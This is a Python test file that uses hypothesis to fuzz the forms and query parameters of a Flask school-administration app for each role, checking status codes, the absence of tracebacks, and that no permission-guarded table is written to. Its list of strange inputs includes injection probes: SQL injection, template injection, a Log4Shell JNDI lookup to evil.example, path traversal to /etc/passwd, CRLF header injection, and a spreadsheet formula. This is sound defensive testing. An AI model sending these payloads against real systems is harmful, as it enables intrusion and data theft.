"""Answers that nobody thought of, in every form and by everybody who may send it: never an error of ours."""

from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any
from urllib.parse import parse_qs, urljoin, urlsplit

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.typing import ResponseReturnValue
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from provider.accounts.rules import PERMITS, Outside, Permission, Role
from provider.kernel.database import db, unit_of_work
from provider.kernel.errors import DomainError
from provider.tasks.models import Task
from tests.harness.audit import assert_clean
from tests.harness.checksums import APART
from tests.harness.factors import HALF_IN, WITH_FACTOR
from tests.harness.forms import CASES, EXTRA, NoForm, Sender, arrived, references
from tests.harness.matrix import WHO, Party, read
from tests.harness.room import Case
from tests.harness.season import Season, stories
from tests.harness.soak import repetitions
from tests.harness.visitor import Page
from tests.harness.written import Written, written

WHO_IS: dict[str, Role | Outside] = {str(who): who for who in (*Outside, *Role)}
# Forms of one person, and what they hold.
ALONE: dict[str, Role | Outside] = {
    WITH_FACTOR: Role.ADMIN,
    HALF_IN: Outside.VISITOR,
    **dict.fromkeys(stories(), Outside.STUDENT),
}
KEPT_OF_EVERY_VISIT = {"person_session"}  # when somebody was last seen
REFUSED = {400, 401, 404, 409, 410, 422, 429}
TAKEN = {200, 303}
# What nobody writes to without the permission, whatever they send.
GUARDED = {
    Permission.MANAGE_PEOPLE: {"role_grant"},
    Permission.EDIT_CATALOG: {"program", "program_version", "tuition_plan", "faq_item"},
    Permission.EDIT_POLICIES: {"refund_policy", "state_floor", "counsel_confirmation"},
    Permission.SET_UP_SCHOOL: {"school_setting"},
    Permission.RECORD_MONEY: {"allocation", "receipt", "withdrawal"},
}
STRANGE = (
    "",
    " ",
    "0",
    "-1",
    "9" * 60,
    "1e999",
    "NaN",
    "true",
    "null",
    "[]",
    "a\0b",
    "\u202e",
    "\u0130",
    "Straße",
    "👩‍👩‍👧",
    "x" * 1_000,
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "\r\nSet-Cookie: a=b",
    "2026-02-30",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "=HYPERLINK(1)",
    "ana@example.org, thief@evil.example",
)
ANYTHING = st.sampled_from(STRANGE) | st.text(max_size=60)
MORE: st.SearchStrategy[dict[str, str]] = st.just({}) | st.dictionaries(
    st.sampled_from(EXTRA), ANYTHING, min_size=1, max_size=3
)
MAY_SEND = {(row.endpoint, who) for row in read() for who, status in row.answers.items() if status == 422}


# Each answer finds what the one before left behind: there is nothing to shrink.
examples = settings(
    max_examples=repetitions(4_000),
    derandomize=True,
    database=None,
    deadline=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)


def filled(sender: Sender) -> st.SearchStrategy[dict[str, Any]]:
    """Return answers to a form: the good one, a choice, something strange, or nothing at all for each field."""
    fields: dict[str, st.SearchStrategy[Any]] = {}
    for one in sender.form.query("input, textarea, select"):
        name = one.attrs.get("name")
        if not name or name == "csrf_token":
            continue
        good = st.just(sender.good.get(name))
        offered = [option.attrs.get("value", "") for option in one.query("option")]
        offered += [one.attrs.get("value", "on")] if one.attrs.get("type") in {"radio", "checkbox"} else []
        fields[name] = st.one_of(good, good, st.none(), st.sampled_from(offered) if offered else good, ANYTHING)
    return st.fixed_dictionaries(fields)


def forms_of(school: Flask, season: Season, who: str) -> Iterator[Sender]:
    """Yield every form that somebody may send, open in a browser of theirs."""
    adapter, known = school.url_map.bind("localhost"), references(school, season)
    colleague = arrived(school, season, Role(who)) if who in season.staff else None
    for case in CASES:
        path = case.path.format_map(known)
        if case.who in ALONE or (case.who is None) != (colleague is None):
            continue
        if colleague is not None and colleague.client.get(path).status_code != 200:
            continue
        try:
            sender = Sender(school, season, case, visitor=colleague, path=path)
        except NoForm:
            continue
        if (adapter.match(sender.action.partition("?")[0], "POST")[0], who) in MAY_SEND:
            yield sender


def tried(sender: Sender, who: Role | Outside, seen: Written) -> Counter[int]:
    """Fill in one form again and again; return how often it was answered how."""
    statuses: Counter[int] = Counter()
    apart = {table for permission, tables in GUARDED.items() if permission not in PERMITS[who] for table in tables}

    @settings(examples, max_examples=repetitions(200))
    @given(typed=filled(sender), more=MORE)
    def answer(typed: dict[str, Any], more: dict[str, str]) -> None:
        seen.take()
        status, text = sender.send({**typed, **more})
        stored = seen.take() - APART - KEPT_OF_EVERY_VISIT
        if status == 303 and not stored and 'href="/sign-in' in text:
            status = 401  # an answer before ended the session
        statuses[status] += 1
        assert status in REFUSED | TAKEN, (typed, more, text[:500])
        assert "Traceback" not in text
        assert not stored or status in TAKEN, (status, stored, typed, more)
        assert not more or status in REFUSED, (status, typed, more)
        assert not stored & apart, (stored, typed)

    answer()
    return statuses


@pytest.mark.parametrize("who", [who for who in WHO if who != Outside.STUDENT])
def test_no_answer_is_an_error_of_ours_or_changes_what_it_may_not(school: Flask, season: Season, who: str) -> None:
    statuses: Counter[int] = Counter()
    with written(school) as seen:
        forms = list(forms_of(school, season, who))
        for sender in forms:
            statuses += tried(sender, WHO_IS[who], seen)
    assert_clean(school)
    assert sum(times for status, times in statuses.items() if status in REFUSED) > 0
    if who == Role.ADMIN:
        assert {sender.case.name for sender in forms} == {case.name for case in CASES if isinstance(case.who, Role)}


@pytest.mark.parametrize("case", [case for case in CASES if case.who in ALONE], ids=lambda case: case.name)
def test_no_answer_of_one_person_is_an_error_of_ours_either(school: Flask, season: Season, case: Case) -> None:
    """Such a form may end their sessions or change how they sign in, so each has a school of its own."""
    with written(school) as seen:
        statuses = tried(Sender(school, season, case), ALONE[str(case.who)], seen)
    assert_clean(school)
    assert sum(times for status, times in statuses.items() if status in REFUSED) > 0


def questions(party: Party, who: str) -> dict[str, set[str]]:
    """Return what can be asked in addresses: each path with the names in its forms for looking and in its links."""
    found: dict[str, set[str]] = defaultdict(set)
    for row in read():
        if row.method != "GET" or row.whose == "other" or row.answers.get(who) != 200:
            continue
        path = party.path(row)
        answer = party.visitor.client.get(path)
        page = Page(answer, path)
        answer.close()
        for form in page.all("form") if page.html else []:
            if form.attrs.get("method", "get").lower() == "get":
                here = urljoin(path, form.attrs.get("action") or path)
                found[here] |= {one.attrs["name"] for one in form.query("input, select") if "name" in one.attrs}
        for link in page.all("a[href]") if page.html else []:
            target = urlsplit(urljoin(path, link.attrs["href"]))
            if target.query and not target.netloc:
                found[target.path] |= set(parse_qs(target.query))
    return found


@pytest.mark.parametrize("who", [Outside.VISITOR, Outside.STUDENT, Role.ADMIN])
def test_no_question_is_an_error_of_ours_or_changes_anything(school: Flask, season: Season, who: str) -> None:
    party = Party(school, season, who, "own" if who == Outside.STUDENT else "")
    asked = questions(party, who)
    assert asked

    @examples
    @given(
        path=st.sampled_from(sorted(asked)),
        values=st.lists(ANYTHING | st.sampled_from(("1", "2026-01-01", "-id")), min_size=8, max_size=8),
    )
    def ask(path: str, values: list[str]) -> None:
        answer = party.visitor.client.get(path, query_string=dict(zip(sorted(asked[path]), values, strict=False)))
        answer.close()
        assert answer.status_code in {200, 301, 303, 400, 404, 422}, (path, values)

    with written(school) as seen:
        ask()
        assert seen.take() - KEPT_OF_EVERY_VISIT == set()


def test_what_is_written_is_seen_once_it_is_committed(app: Flask) -> None:
    with written(app) as seen, app.app_context():
        with suppress(DomainError), unit_of_work():
            db.session.execute(sa.delete(Task))
            raise DomainError
        assert seen.take() == set()
        with unit_of_work():
            db.session.execute(sa.delete(Task))
        assert seen.take() == {"task"}
        assert seen.take() == set()


def _stores_and_refuses() -> ResponseReturnValue:
    with unit_of_work():
        db.session.execute(sa.update(Task).values(remark="stored"))
    return "refused", 422


def _takes_whatever_is_sent() -> ResponseReturnValue:
    return "taken", 200


def _breaks() -> ResponseReturnValue:
    return "broken", 500


@pytest.mark.parametrize("view", [_stores_and_refuses, _takes_whatever_is_sent, _breaks])
def test_a_form_that_is_wrong_is_found(
    school: Flask, season: Season, monkeypatch: pytest.MonkeyPatch, view: Callable[[], ResponseReturnValue]
) -> None:
    (contact,) = [case for case in CASES if case.name == "contact"]
    monkeypatch.setitem(school.view_functions, "site.send_message", view)
    with written(school) as seen, pytest.raises(AssertionError):
        tried(Sender(school, season, contact), Outside.VISITOR, seen)
